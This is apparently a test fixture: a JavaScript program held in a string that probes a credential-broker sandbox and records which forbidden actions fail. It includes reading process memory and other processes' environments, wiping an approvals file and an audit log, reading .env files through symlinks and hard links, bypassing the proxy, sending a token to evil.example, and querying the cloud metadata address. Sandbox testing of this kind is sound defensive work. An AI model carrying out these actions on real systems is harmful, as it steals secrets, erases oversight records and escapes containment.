/** A second task that tries what it must not do, as one program without imports; it prints what came of each. */
export const hostileTask = `
const fs = require('node:fs'), net = require('node:net'), dgram = require('node:dgram'), dns = require('node:dns');
const { spawnSync } = require('node:child_process');
const { BASE: base, ACME: placeholder, BROKER: broker, VICTIM: home, SOCKET: socket, OTHER: other } = process.env;
const results = {};
const attempt = (name, work) => { try { results[name] = String(work() ?? 'done'); } catch (error) { results[name] = error.code ?? String(error); } };
const wait = async (name, work) => { try { results[name] = await work(); } catch (error) { results[name] = 'E' + (error.cause?.code ?? error.code ?? error.message); } };
const call = async (target, options = {}) => {
  const answer = await fetch(target, { ...options, headers: { authorization: 'Bearer ' + placeholder, ...options.headers } });
  const text = await answer.text();
  return answer.status === 200 ? '200' : answer.status + ' ' + JSON.parse(text).error.code;
};
const shell = (line) => { const { status, stdout } = spawnSync('sh', ['-c', line], { encoding: 'utf8', timeout: 8000 }); return status + ' ' + stdout.trim(); };
(async () => {
  attempt('memory', () => fs.openSync('/proc/' + broker + '/mem', 'r'));
  attempt('signalBroker', () => process.kill(Number(broker), 0));
  attempt('ownParents', () => fs.readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name)).some((pid) => { try { return fs.readFileSync('/proc/' + pid + '/environ', 'utf8').includes('VALET_KEY_PASSPHRASE_FILE'); } catch { return false; } }) ? 'sees' : 'sees none');
  attempt('approvals', () => fs.writeFileSync(home + '/valet-key/approvals.json', '{}'));
  attempt('audit', () => fs.truncateSync(home + '/valet-key/audit/audit.jsonl', 0));
  attempt('live', () => fs.readdirSync(home + '/valet-key/live').join());
  attempt('symlink', () => { fs.symlinkSync('../.env', 'out/link'); return fs.readFileSync('out/link', 'utf8') || 'empty'; });
  attempt('hardLink', () => { fs.linkSync('.env', 'out/hard'); return fs.readFileSync('out/hard', 'utf8') || 'empty'; });
  attempt('linkBefore', () => fs.readFileSync('src/link', 'utf8') || 'empty');
  attempt('deepEnv', () => fs.readFileSync('src/deep/.env.local', 'utf8') || 'empty');
  attempt('renameManifest', () => fs.renameSync('valet-key.json', 'out/valet-key.json'));
  await wait('unixSocket', () => new Promise((resolve, reject) => { const one = net.connect(socket, () => resolve('connected')); one.once('error', reject); }));
  await wait('names', () => new Promise((resolve, reject) => dns.lookup('evil.example', (error, address) => error ? reject(error) : resolve(address))));
  await wait('udp', () => new Promise((resolve) => { const one = dgram.createSocket('udp4'); one.once('error', (error) => resolve('E' + error.code)); one.send('x', Number(other), '127.0.0.1', (error) => { one.close(); resolve(error ? 'E' + error.code : 'sent'); }); }));
  attempt('aroundProxy', () => shell('curl -sS --noproxy "*" -m 3 -o /dev/null "$BASE/v1/orders" 2>/dev/null; echo $?'));
  attempt('noProxy', () => shell('NO_PROXY="*" no_proxy="*" curl -sS -m 3 -o /dev/null "$BASE/v1/orders" 2>/dev/null; echo $?'));
  await wait('call', () => call(base + '/v1/orders'));
  await wait('otherPort', () => call('https://localhost:' + other + '/v1/orders'));
  await wait('redirect', () => call(base + '/v1/redirect'));
  await wait('query', () => call(base + '/v1/orders?key=' + placeholder));
  await wait('header', () => call(base + '/v1/orders', { headers: { 'x-other': placeholder } }));
  await wait('body', () => call(base + '/v1/orders', { method: 'POST', body: JSON.stringify({ key: placeholder }) }));
  await wait('elsewhere', () => call('https://evil.example/', {}));
  await wait('metadata', () => call('http://169.254.169.254/latest/meta-data/'));
  await wait('method', () => call(base + '/v1/orders', { method: 'DELETE' }));
  console.log(JSON.stringify(results));
  process.exit();
})();
`;
